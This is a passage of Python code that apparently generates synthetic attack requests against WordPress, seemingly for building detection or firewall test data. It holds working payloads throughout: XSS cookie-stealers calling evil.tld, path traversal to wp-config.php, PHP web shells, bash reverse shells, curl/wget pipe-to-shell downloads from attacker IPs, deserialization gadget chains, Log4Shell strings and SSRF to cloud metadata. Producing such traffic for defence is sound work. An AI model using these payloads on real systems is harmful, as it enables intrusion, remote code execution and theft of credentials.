            atk(g, "POST", "/wp-admin/post.php", body=form(pairs), host=host, kind="page", cookie=subscriber(g, host), origin=True,
                referer="https://%s/wp-admin/post.php?post=%d&action=edit" % (host, pid))


@attack_gen("xss", "svg-upload")
def a_xss_svg(g):
    svgs = [
        '<?xml version="1.0" standalone="no"?>\n<svg version="1.1" baseProfile="full" xmlns="http://www.w3.org/2000/svg">\n<rect width="300" height="100" style="fill:rgb(0,0,255)"/>\n<script type="text/javascript">alert(document.domain);</script>\n</svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.tld/?c=\'+document.cookie)"><circle r="40"/></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text x="20" y="20">Click me</text></a></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"></iframe></body></foreignObject></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="eval(atob(\'ZG9jdW1lbnQubG9jYXRpb249Imh0dHBzOi8vZXZpbC50bGQvIg==\'))"/></svg>',
    ]
    for i, svg in enumerate(svgs):
        host = g.site()
        if i % 2 == 0:
            body, ctype = multipart(g.r, [("name", "logo.svg"), ("action", "upload-attachment"), ("_wpnonce", nonce(g.r)),
                                          ("async-upload", "logo.svg", "image/svg+xml", svg)])
            atk(g, "POST", "/wp-admin/async-upload.php", body=body, ctype=ctype, host=host, cookie=subscriber(g, host))
        else:
            atk(g, "POST", "/wp-json/wp/v2/media", body=svg, ctype="image/svg+xml", host=host, kind="rest", cookie=subscriber(g, host),
                headers=[["Content-Disposition", 'attachment; filename="avatar.svg"'], ["X-WP-Nonce", nonce(g.r)]])


@attack_gen("xss", "block-attr")
def a_xss_block(g):
    blocks_ = [
        '<!-- wp:button {"url":"javascript:alert(document.cookie)"} -->\n<div class="wp-block-button"><a class="wp-block-button__link" href="javascript:alert(document.cookie)">Download</a></div>\n<!-- /wp:button -->',
        '<!-- wp:image {"id":1,"alt":"\\" onerror=\\"alert(1)"} -->\n<figure class="wp-block-image"><img src="x" alt="" onerror="alert(1)"/></figure>\n<!-- /wp:image -->',
        '<!-- wp:paragraph -->\n<p>hello<script>document.write(\'<img src=//evil.tld/?\'+document.cookie+\'>\')</script></p>\n<!-- /wp:paragraph -->',
        '<!-- wp:embed {"url":"https://x.y/\\"><img src=x onerror=alert(1)>","type":"rich"} /-->',
        '<!-- wp:navigation-link {"label":"<img src=x onerror=alert(document.domain)>","url":"/"} /-->',
    ]
    for i, b in enumerate(blocks_):
        host = g.site()
        pid = g.r.randint(10, 6000)
        atk(g, "POST", "/wp-json/wp/v2/posts/%d/autosaves" % pid, body=js({"id": pid, "content": b}), ctype="application/json", host=host,
            kind="rest", cookie=subscriber(g, host), headers=[["X-WP-Nonce", nonce(g.r)]], origin=True)


@attack_gen("xss", "profile")
def a_xss_profile(g):
    for i in range(6):
        host = g.site()
        k = i % 3
        if k == 0:
            pairs = [("_wpnonce", nonce(g.r)), ("from", "profile"), ("first_name", "<script>alert(1)</script>"), ("last_name", "x"),
                     ("nickname", "x"), ("display_name", "\"><img src=x onerror=alert(document.cookie)>"), ("email", "a@evil.tld"),
                     ("description", "bio<svg onload=alert(1)>"), ("action", "update"), ("user_id", "7")]
            atk(g, "POST", "/wp-admin/profile.php", body=form(pairs), host=host, kind="page", cookie=subscriber(g, host), origin=True)
        elif k == 1:
            atk(g, "POST", "/wp-json/wp/v2/users/me", body=js({"name": "<img src=x onerror=alert(1)>", "description": "<script src=//evil.tld/x.js></script>"}),
                ctype="application/json", host=host, kind="rest", cookie=subscriber(g, host), headers=[["X-WP-Nonce", nonce(g.r)]])
        else:
            pairs = [("billing_first_name", "<script src=https://cdn-analytics.evil.top/skim.js></script>"), ("billing_last_name", "Smith"),
                     ("billing_address_1", "1 Main St\"><img src=x onerror=alert(1)>"), ("billing_city", "NY"), ("billing_postcode", "10001"),
                     ("billing_country", "US"), ("billing_email", "x@evil.tld"), ("payment_method", "cod"), ("woocommerce-process-checkout-nonce", nonce(g.r))]
            atk(g, "POST", "/", query=[("wc-ajax", "checkout")], body=form(pairs), host=host, kind="ajax")


@attack_gen("xss", "reflected")
def a_xss_reflected(g):
    cases = [
        ("/wp-admin/admin.php", [("page", "wpcf7"), ("post", "1\"><script>alert(document.domain)</script>")]),
        ("/wp-admin/options-general.php", [("page", "wp-mail-smtp"), ("tab", "\"><svg onload=alert(1)>")]),
        ("/", [("s", "<svg onload=alert(1)>")]),
        ("/wp-content/plugins/wp-file-upload/lib/wfu_security.php", [("x", "<script>alert(1)</script>")]),
        ("/", [("elementor-preview", "1"), ("ver", "\"><img src=x onerror=prompt(1)>")]),
        ("/wp-admin/admin-ajax.php", [("action", "wordfence_lh"), ("callback", "<script>alert(1)</script>")]),
        ("/", "s=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
        ("/wp-login.php", [("action", "lostpassword"), ("error", "\"><script>confirm(1)</script>")]),
    ]
    for path, q in cases:
        atk(g, "GET", path, query=q, kind="page")
    host = g.site()
    atk(g, "GET", "/", host=host, kind="page", ua="<script>alert('stored-in-stats')</script>")
    atk(g, "GET", "/", host=host, kind="page", headers=[["Referer", "https://x.y/\"><script>alert(1)</script>"]])


# --------------------------------------------------------------------------
# attacks: path traversal / LFI and RFI
# --------------------------------------------------------------------------

@attack_gen("lfi", "plugin-download")
def a_lfi(g):
    cases = [
        ("/wp-admin/admin-ajax.php", [("action", "revslider_show_image"), ("img", "../wp-config.php")]),
        ("/wp-admin/admin-ajax.php", [("action", "duplicator_download"), ("file", "../../../../../../../../../etc/passwd")]),
        ("/wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php", [("ajax_path", "/etc/passwd")]),
        ("/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php", [("pl", "/etc/passwd")]),
        ("/wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php", "url=/../../../..//etc/passwd"),
        ("/wp-admin/admin-post.php", [("page", "pb_backupbuddy_destinations"), ("local-destination-id", ""), ("local-download", "/etc/passwd")]),
        ("/wp-content/themes/NativeChurch/download/download.php", [("file", "../../../../wp-config.php")]),
        ("/wp-content/themes/churchope/lib/downloadlink.php", "file=..%2F..%2F..%2F..%2Fwp-config.php"),
        ("/wp-content/plugins/db-backup/download.php", "file=%2e%2e%2f%2e%2e%2f%2e%2e%2fwp-config.php"),
        ("/wp-content/plugins/localize-my-post/ajax/include.php", "file=..%252f..%252f..%252f..%252fwp-config.php"),
        ("/wp-content/plugins/ungallery/source_vuln.php", "pic=....//....//....//wp-config.php"),
        ("/wp-content/plugins/wp-ecommerce-shop-styling/includes/download.php", [("filename", "..\\..\\..\\..\\wp-config.php")]),
        ("/wp-admin/admin-ajax.php", "action=cs_download_export&file=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/wp-config.php"),
        ("/wp-admin/theme-editor.php", [("file", "../../../wp-config.php"), ("theme", "twentytwentyfour")]),
        ("/wp-content/plugins/image-export/download.php", [("file", "/proc/self/environ")]),
        ("/wp-admin/admin-ajax.php", [("action", "aspose_doc_exporter_download"), ("file", "../../../../../../var/log/apache2/access.log")]),
        ("/wp-content/plugins/wp-filemanager/incl/libfile.php", [("path", "../../"), ("filename", "wp-config.php"), ("action", "download")]),
        ("/wp-admin/admin-ajax.php", [("action", "export_template"), ("template", "../../../../../../windows/win.ini")]),
        ("/wp-content/plugins/candidate-application-form/downloadpdffile.php", "fileName=../../../../../../../../etc/shadow%00.pdf"),
    ]
    for path, q in cases:
        atk(g, "GET", path, query=q)
    host = g.site()
    atk(g, "POST", "/wp-admin/admin-ajax.php", body=form([("action", "wpfm_get_file"), ("path", "../../../../wp-config.php"), ("_nonce", nonce(g.r))]),
        host=host, cookie=subscriber(g, host))
    atk(g, "POST", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
        body=form([("cmd", "file"), ("target", "l1_Li4vLi4vLi4vd3AtY29uZmlnLnBocA"), ("download", "1")]))
    atk(g, "POST", "/wp-json/wpvivid/v1/download_backup", body=js({"file": "../../../../../etc/passwd", "type": "local"}), ctype="application/json", kind="rest")


@attack_gen("rfi", "remote-include")
def a_rfi(g):
    cases = [
        ("/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php", [("pl", "http://45.9.148.21/shell.txt?")]),
        ("/wp-content/plugins/gwolle-gb/frontend/captcha/ajaxresponse.php", [("abspath", "http://evil-host.top/")]),
        ("/wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php", [("url", "https://pastebin.com/raw/xYz12AbC")]),
        ("/wp-admin/admin-post.php", [("swp_debug", "load_options"), ("swp_url", "http://185.212.47.9/payload.txt")]),
        ("/wp-content/plugins/advanced-custom-fields/core/actions/export.php", [("acf_abspath", "http://evil-host.top/x.txt?")]),
        ("/wp-content/themes/mimbo/scripts/timthumb.php", [("src", "http://blogger.com.evil-host.top/shell.php")]),
        ("/wp-content/plugins/zingiri-web-shop/fws/ajax/init/uploadfilexd.php", [("wpabspath", "ftp://anonymous:x@91.215.85.3/pub/sh.txt")]),
        ("/wp-admin/admin-ajax.php", [("action", "load_template"), ("template", "\\\\10.13.37.5\\share\\x.php")]),
        ("/wp-content/plugins/dukapress/lib/dp_image.php", [("src", "hTtP://evil-host.top/c99.txt%00")]),
    ]
    for path, q in cases:
        atk(g, "GET", path, query=q)


# --------------------------------------------------------------------------
# attacks: RCE (uploads, editors, command injection, web shells)
# --------------------------------------------------------------------------

SHELLS = [
    "<?php system($_GET['cmd']); ?>",
    "<?php @eval($_POST['x']); ?>",
    "GIF89a;\n<?php echo shell_exec($_REQUEST['c']); ?>",
    "<?php $f=$_FILES['f'];move_uploaded_file($f['tmp_name'],$f['name']);echo 'ok'; ?>",
    "<?=`$_GET[0]`?>",
    "<?php if(isset($_REQUEST['pass'])){passthru(base64_decode($_REQUEST['pass']));} ?>",
]


@attack_gen("rce", "file-upload")
def a_rce_upload(g):
    r = g.r
    cases = [
        ("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", [("cmd", "upload"), ("target", "l1_Lw"), ("upload[]", "x.php", "image/png", SHELLS[0])]),
        ("/wp-admin/admin-ajax.php", [("action", "wmuUploadFiles"), ("wmu_nonce", nonce(r)), ("wmuAttachmentsData", "undefined"), ("postId", "18"),
                                      ("wmu_files[0]", "avatar.php", "image/gif", SHELLS[2])]),
        ("/wp-admin/admin-ajax.php", [("action", "dnd_codedropz_upload"), ("type", "click"), ("security", nonce(r)), ("supported_type", "php"),
                                      ("size_limit", "10485760"), ("upload-file", "cv.php", "application/octet-stream", SHELLS[1])]),
        ("/wp-admin/admin-ajax.php", [("action", "wpr_addons_upload_file"), ("max_file_size", "0"), ("allowed_file_types", "ph$p"),
                                      ("triggering_event", "click"), ("wpr_addons_nonce", nonce(r)), ("uploaded_file", "a.ph$p", "image/png", SHELLS[4])]),
        ("/wp-json/contact-form-7/v1/contact-forms/12/feedback", [("_wpcf7", "12"), ("_wpcf7_unit_tag", "wpcf7-f12-p34-o1"), ("your-name", "x"),
                                                                  ("your-file", "invoice.php\t.jpg", "image/jpeg", SHELLS[0])]),
        ("/wp-admin/admin-ajax.php", [("action", "forminator_submit_form_custom-forms"), ("form_id", "7"), ("forminator_nonce", nonce(r)),
                                      ("upload-1", "photo.phtml", "image/jpeg", SHELLS[5])]),
        ("/wp-admin/async-upload.php", [("name", "image.php.jpg"), ("action", "upload-attachment"), ("_wpnonce", nonce(r)),
                                        ("async-upload", "image.php.jpg", "image/jpeg", "\xff\xd8\xff\xe0JFIF" + SHELLS[1])]),
        ("/wp-content/plugins/simple-file-list/ee-upload-engine.php", [("eeSFL_ID", "1"), ("eeSFL_FileUploadDir", "wp-content/uploads/simple-file-list/"),
                                                                      ("eeSFL_Timestamp", "1587258885"), ("eeSFL_Token", hexid(r)),
                                                                      ("file", "x.png", "image/png", SHELLS[3])]),
        ("/wp-admin/admin-ajax.php", [("action", "nf_fu_upload"), ("form_id", "1"), ("field_id", "5"), ("nonce", nonce(r)),
                                      ("files-5", "report.phar", "application/octet-stream", "<?php __HALT_COMPILER(); ?>\r\n" + SHELLS[0])]),
        ("/wp-admin/admin-ajax.php", [("action", "upload_avatar"), ("user_id", "1"), ("avatar", "shell.pHp5", "image/png", SHELLS[5])]),
        ("/wp-admin/admin-ajax.php", [("action", "wpfu_upload"), ("params_index", "0"), ("session_token", hexid(r, 13)),
                                      ("uploadedfile_1", ".htaccess", "text/plain", "AddType application/x-httpd-php .jpg\n<FilesMatch \"\\.jpg$\">SetHandler application/x-httpd-php</FilesMatch>")]),
    ]
    for path, parts in cases:
        body, ctype = multipart(r, parts)
        atk(g, "POST", path, body=body, ctype=ctype)
    atk(g, "POST", "/wp-content/plugins/simple-file-list/ee-file-engine.php",
        body=form([("eeSFL_ID", "1"), ("eeFileOld", "x.png"), ("eeListFolder", "/"), ("eeFileAction", "Rename|x.php")]))
    zipdata = "PK\x03\x04\x14\x00\x00\x00\x00\x00evilplugin/evil.php" + "<?php\n/*\nPlugin Name: Hello Helper\n*/\nif(isset($_GET['c'])){system($_GET['c']);}\n" + "PK\x05\x06"
    body, ctype = multipart(r, [("_wpnonce", nonce(r)), ("_wp_http_referer", "/wp-admin/plugin-install.php"),
                                ("pluginzip", "hello-helper.zip", "application/zip", zipdata), ("install-plugin-submit", "Install Now")])
    host = g.site()
    atk(g, "POST", "/wp-admin/update.php", query=[("action", "upload-plugin")], body=body, ctype=ctype, host=host, cookie=logged_in(r, host, "admin"))


@attack_gen("rce", "editor-exec")
def a_rce_editor(g):
    r = g.r
    for i in range(3):
        host = g.site()
        pairs = [("nonce", nonce(r)), ("_wp_http_referer", "/wp-admin/theme-editor.php?file=404.php&theme=twentytwentyfour"),
                 ("newcontent", ["<?php system($_REQUEST['c']); ?>\n<?php get_header(); ?>", "<?php\n@error_reporting(0);\n$k='x';if(isset($_POST[$k])){eval(base64_decode($_POST[$k]));}\nget_header();",
                                 "<?php\n/* Plugin Name: Akismet */\nif (isset($_COOKIE['wp_debug'])) { @assert(stripslashes($_COOKIE['wp_debug'])); }"][i]),
                 ("action", "edit-theme-plugin-file")]
        pairs += [("file", "404.php"), ("theme", "twentytwentyfour")] if i < 2 else [("file", "akismet/akismet.php"), ("plugin", "akismet/akismet.php")]
        atk(g, "POST", "/wp-admin/admin-ajax.php", body=form(pairs), host=host, cookie=logged_in(r, host, "admin"), ua=BROWSERS[0],
            headers=[["X-Requested-With", "XMLHttpRequest"]])
    atk(g, "POST", "/wp-json/bricks/v1/render_element",
        body=js({"postId": "1", "nonce": nonce(r), "element": {"name": "container", "settings": {"hasLoop": "true", "query": {
            "useQueryEditor": True, "queryEditor": "throw new Exception(`id`);", "objectType": "post"}}}}), ctype="application/json", kind="rest")
    atk(g, "POST", "/wp-json/bricks/v1/render_element",
        body=js({"postId": "1", "nonce": nonce(r), "element": "1", "loopElement": {"settings": {"query": {"queryEditor": "system('curl -s http://45.9.148.21/x.sh | bash');",
                                                                                                        "useQueryEditor": True}}}}), ctype="application/json", kind="rest")
    host = g.site()
    atk(g, "POST", "/wp-admin/admin.php", query=[("page", "plainview_activity_monitor"), ("tab", "activity_tools")],
        body=form([("ip", "google.com|cat /etc/passwd"), ("lookup", "Lookup")]), host=host, cookie=logged_in(r, host, "editor"))
    atk(g, "POST", "/wp-login.php", query=[("action", "lostpassword")], host="target-host(any -froot@localhost -be ${run{${substr{0}{1}{$spool_directory}}bin${substr{0}{1}{$spool_directory}}touch${substr{10}{1}{$tod_log}}${substr{0}{1}{$spool_directory}}tmp${substr{0}{1}{$spool_directory}}rce.txt}} null)",
        body=form([("user_login", "admin"), ("redirect_to", ""), ("wp-submit", "Get New Password")]))
    atk(g, "POST", "/wp-admin/admin-ajax.php", body=form([("action", "wpgateway_ping"), ("host", "127.0.0.1; wget http://91.215.85.3/x -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x")]))
    atk(g, "GET", "/wp-admin/admin-ajax.php", query=[("action", "duplicator_pro_check_system"), ("path", "$(curl${IFS}-s${IFS}evil-host.top/s|sh)")])
    body, ctype = multipart(r, [("action", "upload-attachment"), ("_wpnonce", nonce(r)),
                                ("async-upload", "exploit.jpg", "image/jpeg", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/image.jpg\"|curl \"http://evil-host.top/x.sh\" | bash\")'\npop graphic-context\n")])
    host = g.site()
    atk(g, "POST", "/wp-admin/async-upload.php", body=body, ctype=ctype, host=host, cookie=subscriber(g, host))


@attack_gen("rce", "webshell")
def a_rce_webshell(g):
    cases = [
        ("GET", "/wp-content/uploads/2024/05/x.php", [("cmd", "id")], None),
        ("GET", "/wp-content/plugins/hello.php", [("c", "cat /etc/passwd")], None),
        ("POST", "/wp-content/themes/twentytwentyfour/404.php", None, form([("a", "FilesMan"), ("c", "/var/www/html"), ("p1", "uname -a; id; cat wp-config.php"), ("charset", "UTF-8")])),
        ("POST", "/wp-content/uploads/wpdiscuz/avatar.php", None, form([("cmd", "bash -c 'bash -i >& /dev/tcp/45.9.148.21/4444 0>&1'")])),
        ("GET", "/wp-includes/wp-class.php", [("x", "echo PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg== | base64 -d > /var/www/html/wp-content/cache.php")], None),
        ("POST", "/wp-content/plugins/wp-file-manager/lib/files/x.php", None, form([("pass", "bmMgLWUgL2Jpbi9zaCA0NS45LjE0OC4yMSA5MDAx")])),
        ("GET", "/wp-admin/css/colors/blue/index.php", [("p", "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil-host.top/a.ps1')\"")], None),
    ]
    for m, path, q, body in cases:
        atk(g, m, path, query=q, body=body)


# --------------------------------------------------------------------------
# attacks: PHP object injection, wrappers, code injection
# --------------------------------------------------------------------------

@attack_gen("php", "object-injection")
def a_php_pop(g):
    r = g.r
    token = 'O:13:"WP_HTML_Token":2:{s:13:"bookmark_name";s:64:"curl http://45.9.148.21/x.sh | sh                               ";s:10:"on_destroy";s:6:"system";}'
    guzzle = ('O:31:"GuzzleHttp\\Cookie\\FileCookieJar":4:{s:36:"\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies";a:1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:'
              '{s:33:"\x00GuzzleHttp\\Cookie\\SetCookie\x00data";a:3:{s:7:"Expires";i:1;s:7:"Discard";b:0;s:5:"Value";s:30:"<?php system($_GET[\'c\']); ?>";}}}'
              's:39:"\x00GuzzleHttp\\Cookie\\CookieJar\x00strictMode";N;s:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:30:"/var/www/html/wp-content/x.php";'
              's:52:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookies";b:1;}')
    give = ('O:19:"Stripe\\StripeObject":1:{s:10:"\x00*\x00_values";a:1:{s:3:"foo";O:62:"Give\\PaymentGateways\\DataTransferObjects\\GiveInsertPaymentData":1:'
            '{s:8:"userInfo";a:1:{s:7:"address";O:4:"Give":1:{s:12:"\x00*\x00container";O:33:"Give\\Vendors\\Faker\\ValidGenerator":3:{s:12:"\x00*\x00validator";'
            's:10:"shell_exec";s:12:"\x00*\x00generator";O:34:"Give\\Onboarding\\SettingsRepository":1:{s:11:"\x00*\x00settings";a:1:{s:8:"address1";'
            's:4:"id;";}}s:13:"\x00*\x00maxRetries";i:10;}}}}}}')
    monolog = 'a:2:{i:7;O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":7:{s:10:"\x00*\x00handler";r:3;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:{i:0;s:2:"id";s:5:"level";N;}}s:8:"\x00*\x00level";N;s:14:"\x00*\x00initialized";b:1;s:14:"\x00*\x00bufferLimit";i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}i:7;i:7;}'
    host = g.site()
    atk(g, "GET", "/", host=host, kind="page", cookie="wp_sec_session=" + quote(token, safe=""))
    atk(g, "POST", "/wp-admin/admin-ajax.php", body=form([("action", "give_process_donation"), ("give-form-id", "13"), ("give-form-hash", nonce(r)),
                                                           ("give-price-id", "0"), ("give-amount", "10"), ("give_first", "a"), ("give_last", "b"),
                                                           ("give_email", "a@b.c"), ("give_title", give), ("give-gateway", "offline")]))
    atk(g, "POST", "/wp-admin/admin-ajax.php", body=form([("action", "wpdm_import_settings"), ("data", guzzle)]))
    atk(g, "GET", "/", kind="page", cookie="yasr_visitor_vote_cookie=" + quote(monolog, safe=""))
    atk(g, "POST", "/wp-admin/admin-ajax.php", body=form([("action", "usces_restore_cart"), ("cart", "a:1:{i:0;O:8:\"stdClass\":1:{s:4:\"file\";s:19:\"../../wp-config.php\";}}")]))
    atk(g, "GET", "/wp-admin/admin-post.php", query=[("action", "wpdatatables_import"), ("settings", "Tzo4OiJzdGRDbGFzcyI6MTp7czo0OiJleGVjIjtzOjI6ImlkIjt9")],
        cookie="wpdt_state=" + quote('O:21:"WPDataTable_Callback":1:{s:8:"callback";s:6:"system";}', safe=""))
    atk(g, "POST", "/xmlrpc.php", ctype="text/xml",
        body=xmlrpc_call("wp.editPost", ["<int>1</int>", xstr("author"), xstr("pass"), "<int>812</int>",
                                         xstruct({"custom_fields": ["_wp_attached_file", "phar://./wp-content/uploads/2024/05/evil.jpg/test.txt"]})]))
    atk(g, "GET", "/wp-admin/post.php", query=[("post", "812"), ("action", "edit"), ("thumb", "phar:///var/www/html/wp-content/uploads/2024/05/avatar.gif/x")],
        cookie=subscriber(g, host), host=host)


@attack_gen("php", "wrapper-code")
def a_php_wrapper(g):
    r = g.r
    cases = [
        ("GET", "/wp-content/plugins/mail-masta/inc/lists/csvexport.php", [("pl", "php://filter/convert.base64-encode/resource=../../../../../wp-config.php")], None, None, None),
        ("GET", "/wp-admin/admin-ajax.php", [("action", "revslider_show_image"), ("img", "php://filter/read=string.rot13/resource=../wp-config.php")], None, None, None),
        ("POST", "/wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php", [("url", "php://input")], "<?php system('id'); ?>", "text/plain", None),
        ("GET", "/wp-content/themes/x/download.php", [("file", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+"), ("c", "id")], None, None, None),
        ("GET", "/wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php", [("ajax_path", "expect://id")], None, None, None),
        ("POST", "/wp-content/plugins/backup-backup/includes/backup-heart.php", None, "", "application/x-www-form-urlencoded",
         [["Content-Dir", "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.SE2.UTF-16|convert.iconv.CSIBM921.NAPLPS|convert.base64-decode|convert.base64-encode|convert.iconv.UTF8.UTF7/resource=php://temp"]]),
        ("POST", "/wp-content/plugins/contact-form-7/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", None, "<?php echo md5('phpunit_rce'); ?>", "text/plain", None),
        ("POST", "/wp-content/plugins/jekyll-exporter/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", None, "<?php system('wget -qO- http://45.9.148.21/m | sh'); ?>", "application/x-www-form-urlencoded", None),
        ("POST", "/", "%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "<?php echo shell_exec('id'); ?>", "application/x-www-form-urlencoded", None),
        ("GET", "/wp-admin/admin-ajax.php", [("action", "lang_switch"), ("lang", "${@print(md5(31337))}")], None, None, None),
        ("GET", "/", [("s", "{${system($_GET[c])}}"), ("c", "id")], None, None, None),
        ("GET", "/wp-admin/admin-ajax.php", [("action", "ipt_fsqm_export"), ("callback", "assert"), ("arg", "phpinfo()")], None, None, None),
        ("POST", "/wp-admin/admin-ajax.php", None, form([("action", "cp_calculated_fields_form_formula"), ("formula", "\");file_put_contents('x.php','<?php eval($_POST[1]);');//")]), None, None),
    ]
    for m, path, q, body, ct, hdr in cases:
        atk(g, m, path, query=q, body=body, ctype=ct, headers=hdr)
    atk(g, "GET", "/", kind="page", ua="<?php system($_GET['cmd']); ?>")


# --------------------------------------------------------------------------
# attacks: Log4Shell & Java sprays, SSRF, XXE, SSTI
# --------------------------------------------------------------------------

@attack_gen("java", "spray")
def a_java(g):
    cb = lambda: "%s.%s.oast.fun" % (hexid(g.r, 20), g.r.choice(["c1", "wp", "x"]))
    jn = [
        "${jndi:ldap://%s/a}" % cb(),
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://%s/poc}" % cb(),
        "${jndi:${lower:l}${lower:d}a${lower:p}://%s/x}" % cb(),
        "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//%s/a}" % cb(),
        "${jndi:dns://%s/test}" % cb(),
    ]
    atk(g, "GET", "/", kind="page", ua=jn[0])
    atk(g, "GET", "/wp-login.php", kind="page", headers=[["X-Api-Version", jn[1]], ["Referer", jn[1]]])
    atk(g, "POST", "/wp-login.php", body=form([("log", jn[2]), ("pwd", "x"), ("wp-submit", "Log In")]), kind="page")
    atk(g, "GET", "/", query=[("s", jn[3])], kind="page", headers=[["X-Forwarded-For", jn[4]]])
    atk(g, "GET", "/wp-admin/", kind="page", cookie="JSESSIONID=" + jn[4])
    atk(g, "POST", "/", ctype="%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}",
        body="x=1")
    atk(g, "POST", "/index.php", body=form([("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }"),
                                            ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
                                            ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT")]))
    atk(g, "GET", "/wp-json/wp/v2/posts", kind="rest", cookie="rememberMe=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3I=")
    atk(g, "GET", "/", query="x=%24%7Bjndi%3Armi%3A%2F%2F" + cb() + "%2Fo%7D", kind="page")


@attack_gen("ssrf", "pingback")
def a_ssrf_pingback(g):
    targets = ["http://127.0.0.1:22/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://[::1]:6379/",
               "http://2130706433:8080/", "http://0x7f000001/server-status", "http://localhost:9200/_cat/indices?v",
               "http://192.168.0.1/admin/", "http://metadata.google.internal/computeMetadata/v1/instance/"]
    for i, t in enumerate(targets):
        host = g.site()
        body = xmlrpc_call("pingback.ping", [xstr(t), xstr("https://%s/%s/" % (host, g.r.choice(SLUGS)))])
        atk(g, "POST", "/xmlrpc.php", body=body, ctype="text/xml", host=host)


@attack_gen("ssrf", "proxy-url")
def a_ssrf_proxy(g):
    cases = [
        ("GET", "/wp-json/oembed/1.0/proxy", [("url", "http://169.254.169.254/latest/meta-data/"), ("_wpnonce", "x")], None),
        ("GET", "/wp-admin/admin-ajax.php", [("action", "wpil_get_url"), ("url", "http://127.0.0.1:8080/manager/html")], None),
        ("POST", "/wp-admin/admin.php", [("page", "pmxi-admin-import")], form([("url", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%3C%3Fphp%20system%28%24_GET%5B%27c%27%5D%29%3B%20%3F%3E%0A%0A%0D%0A"),
                                                                         ("type", "url"), ("is_submitted", "1")])),
        ("POST", "/wp-admin/admin-ajax.php", None, form([("action", "elementor_upload_image_from_url"), ("image_url", "file:///etc/passwd")])),
        ("GET", "/wp-admin/press-this.php", [("u", "http://169.254.169.254/latest/user-data"), ("url-scan-submit", "Scan")], None),
        ("GET", "/wp-json/wp/v2/block-renderer/core/rss", [("attributes[feedURL]", "http://127.0.0.1:8500/v1/agent/self"), ("context", "edit")], None),
        ("POST", "/wp-json/wc/v3/products", None, js({"name": "x", "images": [{"src": "http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-role#.jpg"}]})),
        ("GET", "/wp-content/plugins/wordpress-mobile-pack/export/content.php", [("content", "exportarticles"), ("callback", "x"), ("url", "dict://127.0.0.1:11211/stats")], None),
        ("GET", "/", [("rest_route", "/wp/v2/block-renderer/core/rss"), ("attributes[feedURL]", "http://example.com@127.0.0.1:2375/containers/json")], None),
    ]
    for m, path, q, body in cases:
        host = g.site()
        atk(g, m, path, query=q, body=body, ctype="application/json" if body and body.startswith("{") else None, host=host,
            cookie=subscriber(g, host))


@attack_gen("xxe", "xml-upload")
def a_xxe(g):
    r = g.r
